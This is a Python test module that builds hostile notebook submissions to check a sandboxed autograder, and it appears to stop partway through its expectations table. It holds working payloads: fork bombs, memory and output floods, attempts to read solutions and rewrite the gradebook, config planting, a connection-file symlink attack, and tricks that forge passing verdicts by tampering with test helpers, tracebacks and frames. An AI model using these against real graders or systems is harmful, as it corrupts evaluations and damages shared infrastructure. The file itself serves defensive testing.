"""The hostile corpus: broken or malicious submissions, each built from the full-marks sample
(or the untouched starter) and paired with the outcome the sandboxed grader must reach.

``build(kind, course_root)`` returns the bytes of the submitted file; ``CORPUS[kind]`` holds
the expectation: the total, the status and a fragment each reason must contain. Totals are
worked out by hand from the assignment's points (step 1: trace 3, values 4, equality 4,
text 4; step 2: trace 3, count_values 8, own tests 4; step 3: trace 3, 3 per has-check, own
tests 6; step 4: trace 5, evaluate 8, 4, 4, 4; step 5: trace 3, toggle 6, move 6), not by
running the grader.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

SAMPLES = Path(__file__).resolve().parents[2] / "assignments" / "samples" / "plaisante"
FULL_MARKS = SAMPLES / "full_marks.ipynb"
UNTOUCHED = SAMPLES / "untouched.ipynb"


@dataclass(frozen=True)
class Expect:
    """What a kind must end with: ``total`` points, ``status``, and for a flagged one a
    fragment that one of its reasons contains. ``zero`` lists grade cells that must score 0."""

    total: float
    status: str
    reason: str = ""
    zero: tuple[str, ...] = ()
    at_least: bool = False  # ``total`` is a floor: the grade depends on time left (below)


def base() -> nbformat.NotebookNode:
    """Return the full-marks sample (the reference solution as a student would write it)."""
    return nbformat.read(FULL_MARKS, as_version=4)


def cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    """Return the cell with ``grade_id``; raises KeyError if there is none."""
    for each in nb.cells:
        if each.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return each
    raise KeyError(grade_id)


#: ordinary code whose names and calls look like the kit's: a local ``kit_card``, ``eval``,
#: ``compile`` and a string that starts with the package's name
HONEST_NAMES = """
def kit_card_count(cards):
    kit_card = len(cards)
    return eval(compile("kit_card * 1", "<mine>", "eval"), {"kit_card": kit_card})


NOTE = "plaisante.games is where the kit keeps its games"
"""


def append(grade_id: str, code: str) -> Callable[[Path], bytes]:
    """Return a builder that appends ``code`` to the cell ``grade_id`` of the sample."""
    def make(root: Path) -> bytes:
        nb = base()
        target = cell(nb, grade_id)
        target.source = target.source.rstrip() + "\n\n" + code.replace("{ROOT}", str(root))
        return nbformat.writes(nb).encode("utf-8")
    return make


def appends(**codes: str) -> Callable[[Path], bytes]:
    """Return a builder that appends each code to the cell named by its keyword."""
    def make(root: Path) -> bytes:
        nb = base()
        for grade_id, code in codes.items():
            target = cell(nb, grade_id)
            target.source = target.source.rstrip() + "\n\n" + code
        return nbformat.writes(nb).encode("utf-8")
    return make


def replace(grade_id: str, old: str, new: str) -> Callable[[Path], bytes]:
    """Return a builder replacing ``old`` (which must be there) by ``new`` in ``grade_id``."""
    def make(root: Path) -> bytes:
        nb = base()
        target = cell(nb, grade_id)
        if old not in target.source:
            raise ValueError(f"{old!r} not in {grade_id}")
        target.source = target.source.replace(old, new.replace("{ROOT}", str(root)))
        return nbformat.writes(nb).encode("utf-8")
    return make


def edit(change: Callable[[nbformat.NotebookNode], None]) -> Callable[[Path], bytes]:
    """Return a builder applying ``change`` to the sample notebook."""
    def make(root: Path) -> bytes:
        nb = base()
        change(nb)
        return nbformat.writes(nb).encode("utf-8")
    return make


def starter() -> nbformat.NotebookNode:
    """Return the untouched sample (the starter notebook, not started: every step scores 0)."""
    return nbformat.read(UNTOUCHED, as_version=4)


Change = Callable[[nbformat.NotebookNode, Path], None]


def made(start: Callable[[], nbformat.NotebookNode], *changes: Change) -> Callable[[Path], bytes]:
    """Return a builder applying ``changes`` in order to ``start()`` (``base`` or ``starter``)."""
    def make(root: Path) -> bytes:
        nb = start()
        for change in changes:
            change(nb, root)
        return nbformat.writes(nb).encode("utf-8")
    return make


def swap(grade_id: str, old: str, new: str) -> Change:
    """A change replacing ``old`` (which must be there) by ``new`` in the cell ``grade_id``."""
    def change(nb: nbformat.NotebookNode, root: Path) -> None:
        target = cell(nb, grade_id)
        if old not in target.source:
            raise ValueError(f"{old!r} not in {grade_id}")
        target.source = target.source.replace(old, new.replace("{ROOT}", str(root)))
    return change


def add(grade_id: str, code: str) -> Change:
    """A change appending ``code`` to the cell ``grade_id``."""
    def change(nb: nbformat.NotebookNode, root: Path) -> None:
        target = cell(nb, grade_id)
        target.source = target.source.rstrip() + "\n\n" + code.replace("{ROOT}", str(root))
    return change


def above_setup(code: str) -> Change:
    """A change inserting a new plain code cell holding ``code`` just above the setup cell,
    so it runs before any name of the kit is bound in the notebook."""
    def change(nb: nbformat.NotebookNode, root: Path) -> None:
        setup = cell(nb, "setup")
        nb.cells.insert(nb.cells.index(setup),
                        nbformat.v4.new_code_cell(code.replace("{ROOT}", str(root))))
    return change


def raw(data: bytes) -> Callable[[Path], bytes]:
    """Return a builder that submits ``data`` as the notebook file."""
    return lambda root: data


def _delete(nb: nbformat.NotebookNode) -> None:
    nb.cells.remove(cell(nb, "step1_card_values"))


def _duplicate_test(nb: nbformat.NotebookNode) -> None:
    # has_pair made wrong, then the test cell copied with the copy "fixed" to pass
    solution = cell(nb, "step3_has_checks")
    solution.source = solution.source.replace("return 2 in count_values(cards)",
                                              "return 2 <= max(count_values(cards))")
    test = cell(nb, "step3_has_pair")
    fake = copy.deepcopy(test)
    fake.source = "print('all good')"
    fake["id"] = "fakecopy"
    nb.cells.insert(nb.cells.index(test) + 1, fake)


def _retype(nb: nbformat.NotebookNode) -> None:
    target = cell(nb, "step2_count_values_code")
    index = nb.cells.index(target)
    markdown = nbformat.v4.new_markdown_cell(target.source)
    markdown.metadata = target.metadata
    nb.cells[index] = markdown


def _rename(nb: nbformat.NotebookNode) -> None:
    cell(nb, "step2_count_values_code").metadata["nbgrader"]["grade_id"] = "my_count_values"


def _rename_every_id(nb: nbformat.NotebookNode) -> None:
    for each in nb.cells:
        meta = each.metadata.get("nbgrader")
        if meta:
            meta["grade_id"] = "hw2_" + meta["grade_id"]


# Code run by the hostile submissions ------------------------------------------------------

LOOP_FOREVER = "return 2 in count_values(cards)", "while True:\n        pass"
SWALLOW = ("return 2 in count_values(cards)",
           "import time\n    while True:\n        try:\n            time.sleep(0.05)\n"
           "        except KeyboardInterrupt:\n            pass")
FORK_BOMB = """\
import os, time
children = []
while len(children) < 500:          # bounded: stops at 500 or at the process limit
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children.append(pid)
"""
MEMORY_HOG = """\
def hog():
    blocks = []
    while True:
        blocks.append(bytearray(64 * 1024 * 1024))
hog()
"""
READ_SOLUTIONS = """\
import glob, os
found = []
for pattern in ["{ROOT}/solutions/*/*.ipynb", "../../../../solutions/*/*.ipynb",
                "/work/main/solutions/*/*.ipynb", "{ROOT}/assignments/submitted/*/*/*.ipynb",
                "{ROOT}/assignments/gradebook.db", "/dev/shm/plaisante-grade-*/gradebook.db",
                "/dev/shm/plaisante-grade-*/course/*/*/*/*.ipynb",
                "/tmp/plaisante-grade-*/course/*/*/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            found.append((path, len(open(path, 'rb').read())))
        except OSError as error:
            pass
print("LEAKED" if found else "nothing to read", found)
"""
WRITE_GRADEBOOK = """\
import sqlite3
for path in ["{ROOT}/assignments/gradebook.db", "../../gradebook.db", "../../../gradebook.db",
             "../../../../assignments/gradebook.db"]:
    try:
        db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
        print("WROTE", path)
    except Exception as error:
        print("could not write", path, type(error).__name__)
"""
# A kernel forked by the zygote shares its sandbox with the next submission's kernels: it
# plants an IPython config that flips every bool its parts answer (and fills /dev), which the
# next kernels of its worker would load. Their root and /dev are read-only.
PLANT_FOR_THE_NEXT = """\
import os
_payload = "import plaisante.kernel.oracle as _o\\n_a = _o.answer\\n" \\
    "def _f(q, r, ns):\\n    x = _a(q, r, ns)\\n" \\
    "    if type(x.get('ok')) is bool: x['ok'] = not x['ok']\\n    return x\\n_o.answer = _f\\n"
for _path in ("/etc/ipython/ipython_kernel_config.py", "/dev/persist", "/var/planted"):
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(_payload)
        print("PLANTED", _path)
    except OSError as _e:
        print("refused", _path, _e.strerror)
"""
NETWORK = """\
import socket
for host, port in [("1.1.1.1", 80), ("127.0.0.1", 22), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        print("CONNECTED", host)
    except OSError as error:
        print("no network:", host, type(error).__name__, error)
"""
KILL_PARENT = """\
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print("parent:", error)
os.kill(-1, signal.SIGKILL)         # every other process this user may signal
"""
BACKGROUND = """\
import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:                  # a daemon: double fork, new session
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
"""
RIGGED_COUNTS = """\
class Always(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None


def count_values(cards):
    return Always()
"""
RIGGED_PAIR = """\
class Yes:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True


def has_pair(cards):
    return Yes()
"""
PATCH_TRACEBACK = """\
def has_pair(cards):
    return True


import IPython
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
"""
PATCH_HELPERS = """\
def has_three_of_a_kind(cards):
    return True


import builtins
import plaisante.games.plaisante.checks as checks
import plaisante.student_side.checking
check_has = lambda *args, **kwargs: None
expect_has = lambda *args, **kwargs: None
checks.check_has = check_has
checks.expect_has = expect_has
plaisante.student_side.checking.same = lambda expected, actual: True
builtins.all = lambda iterable: True
"""
PRINT_HIDDEN = """\
import html
from IPython.display import HTML, display
history = "\\n".join(In)                # every cell run so far, hidden tests included
print(history)
display(HTML("<pre>" + html.escape(history) + "</pre>"))
"""
INPUT = 'name = input("Your name? ")\nprint("hello", name)'
WIDGET = ("import ipywidgets\nslider = ipywidgets.IntSlider(value=3, description='cards')\n"
          "display(slider)\nslider")
SUITS_PRINT = 'print("♠♥♦♣ é ß", [Card("A", s) for s in SUITS])'
BIG_LINE = 'print("x" * 50_000_000)'
# a flood of small messages, five times the tests' output allowance: a million lines took 8 s of
# the 10 s cell limit, then 2 s more in each of the dozen runs of the student's own tests
MANY_LINES = 'for i in range(200_000):\n    print(i)'

# The verdict forgeries: tricks that today turn wrong work into points, because every verdict
# is decided inside the student's kernel. A grader whose tests run in its own process (the
# kernel only answers calls of the student's parts with plain data) must score each trick
# exactly as the same code without it: ``SAME_AS`` pairs each trick with its control.

# one line in a stub: an execute_result 'ok' before the stub's error; nbgrader's
# determine_grade reads the first execute_result of a test cell and never sees the error
DISPLAYHOOK = "import sys; sys.displayhook('ok')"
PAIR_DOC = '    """Return True if some value appears exactly 2 times among cards."""\n'
PAIR_RIGHT = "return 2 in count_values(cards)"
PAIR_ALWAYS = "return True"
# the wrong has_pair of the trick kinds: "at least 2", true for three and four of a kind; it
# fails the visible four kings (K♥ K♦ K♣ K♠ 9♥): step3_has_pair scores 0
PAIR_AT_LEAST_TWO = "return any(n >= 2 for n in count_values(cards))"
# the wrong base_mult of the table kinds: Flush and Full House swapped (7 and 6)
MULT_RIGHT = "return MULTIPLIERS[evaluate(cards)]"
MULT_SWAPPED = """\
table = {FOUR_OF_A_KIND: 8, FULL_HOUSE: 6, FLUSH: 7, STRAIGHT: 5, THREE_OF_A_KIND: 4,
             TWO_PAIR: 3, PAIR: 2, HIGH_CARD: 1}
    return table[evaluate(cards)]"""
# blanks every later cell that looks like a test (the student's own cells call no check_ or
# expect_ helper, so their definitions still run)
BLANK_TESTS = """\
import re
def _blank_tests(lines):  # a cell calling a check; not the student's my_has_check_tests
    text = "".join(lines)
    return [] if re.search(r"\\b(check|expect)_\\w*\\(", text) else lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
"""
# the guard puts the helpers' names back, not their bodies
CODE_SWAP = """\
import plaisante.games.plaisante.checks as checks
import plaisante.student_side.checking
plaisante.student_side.checking.same.__code__ = (lambda expected, actual: True).__code__
checks.expect_has.__code__ = (lambda *args, **kwargs: None).__code__
checks.check_has.__code__ = (lambda *args, **kwargs: None).__code__
"""
# returns the nearest caller's local named ``expected``, else ``default`` (the student's own)
FRAME_READER = """\
import sys
def _expected_or(default):
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return default
"""
PAIR_FROM_FRAMES = "return _expected_or(any(n >= 2 for n in count_values(cards)))"
# the table the checks read made to agree with the swapped base_mult
TABLE_CHANGE = "MULTIPLIERS.update({FULL_HOUSE: 6, FLUSH: 7})"
TABLE_CHANGE_ALONE = ("from plaisante.games.plaisante.rules import MULTIPLIERS, FLUSH, FULL_HOUSE\n"
                      + TABLE_CHANGE)
# the kernel's connection file (its path is in the kernel's argv) replaced by a link to a file
# outside the sandbox, then the kernel dies: a grader that restarts it and chowns (or writes)
# the connection file as root follows the link
LINK_CONNECTION_FILE = """\
import os, sys
connection = sys.argv[sys.argv.index("-f") + 1]
os.remove(connection)
os.symlink("{TARGET}", connection)
os._exit(1)
"""
CANARY_FILE = "canary.txt"        # created by the test in the course folder, outside the sandbox
CANARY_FOLDER = "canary-folder"
# 1 GiB over iopub: 1024 prints of 1 MiB
MALFORMED_OUTPUT = """\
_kernel = get_ipython().kernel
_kernel.session.send(_kernel.iopub_socket, "error", {"ename": "E", "evalue": "", "traceback": 5},
                     parent=_kernel.get_parent())
"""
# messages the kernel signs (it holds the key) in shapes no Jupyter message has: a parent
# header that is a list, content that is a list (the serve loop's "ran" and an input_request),
# bare frames and an execute_reply whose parent header is a number on the grader's shell socket
MISSHAPEN_MESSAGES = """\
_k = get_ipython().kernel
_parent = _k.get_parent()
_grader = _parent["header"]["session"].encode()
_m = _k.session.msg("stream", content={"name": "stdout", "text": "hi\\n"}, parent=_parent)
_m["parent_header"] = ["not", "a", "header"]
_k.session.send(_k.iopub_socket, _m)
_k.session.send(_k.iopub_socket, "plaisante_ran", b"[1, 2]", parent=_parent)
_k.session.send(_k.stdin_socket, "input_request", b"[1]", parent=_parent, ident=_grader)
_shell = getattr(_k, "shell_stream", None) or _k.shell_socket
_shell.send_multipart([_grader, b"not", b"a", b"jupyter", b"message"])
_m = _k.session.msg("execute_reply", content={"status": "ok"}, parent=_parent)
_m["parent_header"] = 7
_k.session.send(_shell, _m, ident=_grader)
"""
IOPUB_FLOOD = """\
chunk = "x" * (1024 * 1024 - 1)
for _ in range(1024):
    print(chunk, flush=True)
"""
# 256 MiB printed by has_pair at its first call (a judge waits for the call's answer, reading
# and dropping the output on its own socket; the kernel publishes to nbclient's too, so the
# full 1 GiB of the kinds above would outlast the 10 s cell limit on a loaded machine)
FLOOD_ONCE = """\
if not getattr(has_pair, "flooded", False):
        has_pair.flooded = True
        chunk = "x" * (1024 * 1024 - 1)
        for _ in range(256):
            print(chunk, flush=True)
    return 2 in count_values(cards)"""
WARNS = ('import warnings\n    warnings.warn("has_pair: counting values")\n    '
         "return 2 in count_values(cards)")
# New attacks, not verdict forgeries ----------------------------------------------------------
# a trace function rewrites expect_value's ``compute`` into "return expected" as it is called
# (sys.settrace's frame locals are written back to the frame in CPython ≤ 3.12; a write-through
# proxy since 3.13); the guard restores names, not the interpreter's trace hook
TRACE_REWRITE = """\
import sys
def _trace(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "expect_value":
        expected = frame.f_locals["expected"]
        frame.f_locals["compute"] = lambda: expected
    return None
sys.settrace(_trace)
"""
# the visible cases live in a dict the guard restores by name, not by content
PAIR_NOT_IN_FULL_HOUSE = "counts = count_values(cards)\n    return 2 in counts and 3 not in counts"
CASES_CUT = """\
import plaisante.games.plaisante.checks as checks
checks.HAS_CHECK_CASES["has_pair"] = checks.HAS_CHECK_CASES["has_pair"][:3]
"""
# IPython's custom exception hook: an error in a test cell goes to a handler that shows nothing
# and clears the error from IPython's execution result (found in its caller's frames), so the
# kernel replies "ok" and nbgrader sees no error at all (``patched_showtraceback`` leaves the
# reply's error, which nbgrader turns back into an error output)
CUSTOM_EXC = """\
import sys
def _forgive(shell, etype, value, tb, tb_offset=None):
    frame = sys._getframe(1)
    while frame is not None:
        if hasattr(frame.f_locals.get("result"), "error_in_exec"):
            frame.f_locals["result"].error_in_exec = None
        frame = frame.f_back
    return []
get_ipython().set_custom_exc((Exception,), _forgive)
"""

STEP3_HAS_CHECKS = ("step3_has_pair", "step3_has_three_of_a_kind", "step3_has_four_of_a_kind",
                    "step3_has_two_pair", "step3_has_full_house", "step3_has_flush",
                    "step3_has_straight")

FILL_SOCKETS = """\
import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
for number in range(40):            # 2.4 GB in files under the 64 MiB file-size limit
    with open(os.path.join(folder, f"fill{number}"), "wb") as out:
        out.write(b"x" * (60 << 20))
"""

# the sockets folder's share of the disk hidden from the watch: a folder of its own that the
# grader cannot list (as an ordinary user the kernel owns what it makes there)
HIDE_IN_SOCKETS = """\
import os, sys, time
folder = os.path.join(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]), "hidden")
os.mkdir(folder)
os.chmod(folder, 0o300)             # write and enter, no listing: the watch saw nothing in it
for number in range(5):             # 300 MB, past the 64 MiB the sockets folder may hold
    with open(os.path.join(folder, f"fill{number}"), "wb") as out:
        out.write(b"x" * (60 << 20))
time.sleep(5)                       # the watch looks every 0.2 s: caught in this cell
"""
# the sockets folder itself made unreadable: it is the zygote's, shared by every later
# submission of the worker
CLOSE_SOCKETS = """\
import os, sys, time
os.chmod(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]), 0)
time.sleep(5)                       # the watch looks every 0.2 s: caught in this cell
"""

CORPUS: dict[str, tuple[Callable[[Path], bytes], Expect]] = {
    "infinite_loop": (replace("step3_has_checks", *LOOP_FOREVER),
                      Expect(97, "flagged", "timeout: step3_has_pair", ("step3_has_pair",))),
    "swallow_interrupt": (replace("step3_has_checks", *SWALLOW),
                          Expect(97, "flagged", "ignored the interrupt", ("step3_has_pair",))),
    "sys_exit": (replace("step2_count_values_code", "counts = [0] * 15",
                         "import sys\n    sys.exit('bye')"),
                 Expect(92, "graded", "", ("step2_count_values",))),
    # 152 = 128 + SIGXCPU: a kernel's own exit code must not pass for the CPU time limit
    "os_exit": (append("step3_has_checks", "import os\nos._exit(152)"),
                Expect(79, "flagged", "kernel died in step3_has_checks (it exited by itself "
                       "with status 128 or over", STEP3_HAS_CHECKS)),
    # a SIGXCPU of its own, long before the kit's CPU time limit: not reported as that limit
    "self_sigxcpu": (append("step3_has_checks",
                            "import os, signal\nos.kill(os.getpid(), signal.SIGXCPU)"),
                     Expect(79, "flagged", "kernel died in step3_has_checks (SIGXCPU before "
                            "the kit's CPU time limit", STEP3_HAS_CHECKS)),
    "fork_bomb": (append("step5_tableau", FORK_BOMB),
                  Expect(100, "flagged", "BlockingIOError in step5_tableau: the process limit")),
    "memory_hog": (append("step5_tableau", MEMORY_HOG),
                   Expect(100, "flagged", "MemoryError in step5_tableau: the memory limit")),
    "big_line": (append("step1_card_code", BIG_LINE), Expect(100, "flagged", "output limit")),
    "many_lines": (append("step1_card_code", MANY_LINES),
                      Expect(100, "flagged", "output limit")),
    "read_solutions": (append("step1_card_code", READ_SOLUTIONS), Expect(100, "graded")),
    "network": (append("step1_card_code", NETWORK), Expect(100, "graded")),
    "write_gradebook": (append("step1_card_code", WRITE_GRADEBOOK), Expect(100, "graded")),
    # sorts first, so that the kinds graded after it on its worker would show a planted config
    "aaa_plant_for_the_next": (append("step1_card_code", PLANT_FOR_THE_NEXT),
                               Expect(100, "graded")),
    "kill_parent": (append("step5_tableau", KILL_PARENT), Expect(100, "graded")),
    "background_process": (append("step5_tableau", BACKGROUND), Expect(100, "graded")),
    "rigged_eq": (appends(step2_count_values_code=RIGGED_COUNTS, step3_has_checks=RIGGED_PAIR),
                  Expect(89, "graded", "", ("step2_count_values",
                                            "step3_has_pair"))),
    "patched_showtraceback": (append("step3_has_checks", PATCH_TRACEBACK),
                              Expect(97, "graded", "", ("step3_has_pair",))),
    "patched_helpers": (append("step3_has_checks", PATCH_HELPERS),
                        Expect(97, "graded", "", ("step3_has_three_of_a_kind",))),
    # today (an in-kernel guard): 100 flagged "the kit could not be restored". A judge keeps no
    # guard in the kernel, so the pop raises KeyError, the rest of the cell never runs and the
    # correct has-checks above it stay: 100, graded (were a guard there, the always-True
    # has_three_of_a_kind after it would cost step3_has_three_of_a_kind: 97, as patched_helpers)
    "removed_guard": (append("step3_has_checks", "get_ipython().__dict__.pop('_plaisante_guard')"
                             "\n" + PATCH_HELPERS),
                      Expect(100, "graded")),
    "deleted_test_cell": (edit(_delete),
                          Expect(100, "flagged", "test cell step1_card_values was deleted")),
    "duplicated_cell": (edit(_duplicate_test),
                        Expect(97, "flagged", "step3_has_pair appears 2 times",
                               ("step3_has_pair",))),
    "retyped_markdown": (edit(_retype),
                         Expect(100, "flagged", "step2_count_values_code was changed to a "
                                "markdown cell")),
    "changed_grade_id": (edit(_rename),
                         Expect(100, "flagged", "unknown id 'my_count_values'")),
    "invalid_json": (raw(b'{"cells": [{"cell_type": "code", "source": "print(1)"'),
                     Expect(0, "flagged", "invalid notebook: not valid JSON")),
    "empty_file": (raw(b""), Expect(0, "flagged", "empty file")),
    # another assignment's notebook (Deck and deal's, full marks) handed in as Plaisante
    "other_assignment": (raw((SAMPLES.parent / "deck" / "full_marks.ipynb").read_bytes()),
                         Expect(0, "flagged", "not a notebook of assignment 'plaisante'")),
    # Plaisante's own notebook with every grade id renamed: recognised by its locked cells,
    # graded, and flagged saying so (grade what a person would recognise)
    "renamed_grade_ids": (edit(_rename_every_id),
                          Expect(100, "flagged", "matched by position and graded as usual")),
    "print_hidden_tests": (append("step5_tableau", PRINT_HIDDEN), Expect(100, "graded")),
    "input_call": (append("step1_card_code", INPUT),
                   Expect(100, "flagged", "input() called in step1_card_code")),
    "widget_in_graded_step": (append("step4_scoring", WIDGET), Expect(100, "graded")),
    "suits_non_utf8_locale": (append("step1_card_code", SUITS_PRINT), Expect(100, "graded")),
    # the verdict forgeries. "today" is what the grader before the judge (6609a45: tests run
    # in the kernel, an in-kernel guard) gave, each kind graded alone with this module's
    # limits. Controls (the same code without the trick) carry no "today".
    # the starter as released: every part raises NotImplementedError, every test cell fails
    "untouched": (made(starter), Expect(0, "graded")),
    # today: 4 (step3_has_pair: its execute_result 'ok' comes before the error, and nbgrader
    # scores a test cell by its first execute_result); a judge: 0, as untouched
    "displayhook_stub": (made(starter, swap("step3_has_checks", PAIR_DOC,
                                            PAIR_DOC + "    " + DISPLAYHOOK + "\n")),
                         Expect(0, "graded")),
    # control: has_pair always True fails the visible K♥ Q♦ 3♣ 7♠ 9♥ → False (and hidden four
    # and three of a kind): step3_has_pair 0 → 100 − 3 = 97. evaluate, base_mult and score are
    # tested with stand-in has-checks, so nothing else calls it
    "always_true_pair": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_ALWAYS)),
                         Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100. A judge: 97, as always_true_pair
    "always_true_displayhook": (made(base, swap("step3_has_checks", PAIR_RIGHT,
                                                DISPLAYHOOK + "\n    " + PAIR_ALWAYS)),
                                Expect(97, "graded", "", ("step3_has_pair",))),
    # control: "at least 2" fails the visible K♥ K♦ K♣ K♠ 9♥ → False: step3_has_pair 0 → 97
    # (the has_pair_at_least_two sample)
    "wrong_pair": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO)),
                   Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (every later test cell blanked). A judge: 97, as wrong_pair
    "wrong_pair_transformer": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO),
                                    add("step3_has_checks", BLANK_TESTS)),
                               Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (same, expect_has and check_has emptied in place). A judge: 97
    "wrong_pair_code_swap": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO),
                                  add("step3_has_checks", CODE_SWAP)),
                             Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (has_pair answers expect_value's ``expected``). A judge: 97: no caller of
    # has_pair in the kernel holds an expected value, so the wrong answer is returned
    "wrong_pair_frames": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_FROM_FRAMES),
                               add("step3_has_checks", FRAME_READER)),
                          Expect(97, "graded", "", ("step3_has_pair",))),
    # control: Flush and Full House swapped; check_base_mult's cases include both (and the
    # hidden Flush case): step4_base_mult 0 → 100 − 4 = 96. score is tested on a stand-in
    # base_mult, so nothing else changes
    "wrong_mult": (made(base, swap("step4_scoring", MULT_RIGHT, MULT_SWAPPED)),
                   Expect(96, "graded", "", ("step4_base_mult",))),
    # today: 100 (the guard restores names, not the content of the dict they name). A judge:
    # 96, its MULTIPLIERS are its own
    "wrong_mult_table": (made(base, swap("step4_scoring", MULT_RIGHT, MULT_SWAPPED),
                              add("step4_scoring", TABLE_CHANGE)),
                         Expect(96, "graded", "", ("step4_base_mult",))),
    # a–d again, each from a new cell above the setup cell
    # today: 100. A judge: 97
    "above_setup_transformer": (made(base, above_setup(BLANK_TESTS),
                                     swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO)),
                                Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100. A judge: 97
    "above_setup_code_swap": (made(base, above_setup(CODE_SWAP),
                                   swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO)),
                              Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (the reader defined above setup, called by the student's has_pair). A judge: 97
    "above_setup_frames": (made(base, above_setup(FRAME_READER),
                                swap("step3_has_checks", PAIR_RIGHT, PAIR_FROM_FRAMES)),
                           Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100. A judge: 96
    "above_setup_table": (made(base, above_setup(TABLE_CHANGE_ALONE),
                               swap("step4_scoring", MULT_RIGHT, MULT_SWAPPED)),
                          Expect(96, "graded", "", ("step4_base_mult",))),
    # today: 32, flagged, and the canary file's owner changed to the sandbox's uid: the root
    # grader chowned the link's target on restart, then failed to restart the kernel
    # ("Expecting value": it read the canary as the connection file), so steps 3 to 5 scored 0.
    # A judge: as os_exit, the has-checks die with the kernel, stand-ins carry step 4: 100 − 7 ×
    # 3 = 79, and no canary changes (test_no_file_outside_the_sandbox_changes_owner_or_content)
    "linked_connection_file": (
        made(base, add("step3_has_checks",
                       LINK_CONNECTION_FILE.replace("{TARGET}", "{ROOT}/" + CANARY_FILE))),
        Expect(79, "flagged", "kernel died in step3_has_checks", STEP3_HAS_CHECKS)),
    # today: 32, flagged, the canary folder's owner changed ("Is a directory" on restart).
    # A judge: 79, as above
    "linked_connection_folder": (
        made(base, add("step3_has_checks",
                       LINK_CONNECTION_FILE.replace("{TARGET}", "{ROOT}/" + CANARY_FOLDER))),
        Expect(79, "flagged", "kernel died in step3_has_checks", STEP3_HAS_CHECKS)),
    # 1 GiB over iopub, each graded alone (ALONE) with the grader's peak memory measured.
    # today: 100, flagged "output limit", grader peak 280 MiB (nbclient reads iopub while a cell
    # runs). A judge: the same, under the bound
    "iopub_flood": (made(base, add("step1_card_code", IOPUB_FLOOD)),
                    Expect(100, "flagged", "output limit")),
    # the flooding cell replayed after the kernel dies in going_further (ungraded, after every
    # test): today: 100, flagged, grader peak 919 MiB (the replay runs silently while the
    # grader waits on the shell channel only: iopub piles up in the grader). A judge:
    # flagged (output limit, kernel died), under the bound. Its hidden checks run after the last
    # cell, on the kernel restarted after going_further's exit, once the flooding cell has run
    # again: how many of them pass depends on how much of that the notebook's time still holds
    # (65 to 85 seen; at least the cells with no hidden region)
    "iopub_flood_replayed": (made(base, add("step1_card_code", IOPUB_FLOOD),
                                  add("going_further", "import os\nos._exit(1)")),
                             Expect(10, "flagged", "output limit", at_least=True)),
    # has_pair floods at its first call: today: 100, flagged, peak 308 MiB. A judge waits for
    # the call's answer: 100, flagged, under the bound
    "iopub_flood_in_call": (made(base, swap("step3_has_checks", PAIR_RIGHT, FLOOD_ONCE)),
                            Expect(100, "flagged", "output limit")),
    # today: 96 (the warning is stderr in step3_has_pair's output: nbgrader scores it 0). A
    # judge: 100, graded: has_pair returns the right values
    "warns_once": (made(base, swap("step3_has_checks", PAIR_RIGHT, WARNS)), Expect(100, "graded")),
    # honest work that uses names a list of forbidden spellings once flagged: graded as it is
    "honest_kit_names": (append("step3_has_checks", HONEST_NAMES), Expect(100, "graded")),
    # new attacks, not verdict forgeries
    # found by an attack review of the resident grader: the kernel publishes an error output whose
    # traceback is not a list (nbgrader then refused the whole notebook: 0). Dropped, flagged;
    # the wrong has_pair still loses its points
    "malformed_output": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO),
                              add("step1_card_code", MALFORMED_OUTPUT)),
                         Expect(97, "flagged", "malformed 'error' output",
                                ("step3_has_pair",))),
    # found by an attack review of the strict wire: each of these misshapen messages ended the
    # grading of the whole notebook (AttributeError or ValueError in the grader: 0, flagged).
    # None is a message of the grader's conversation: dropped, graded as without them
    "misshapen_messages": (made(base, add("step1_card_code", MISSHAPEN_MESSAGES)),
                           Expect(100, "graded")),
    # today: 100 (sys.settrace turns every expect_value into "return expected"). A judge: 97
    "trace_rewrite": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO),
                           add("step3_has_checks", TRACE_REWRITE)),
                      Expect(97, "graded", "", ("step3_has_pair",))),
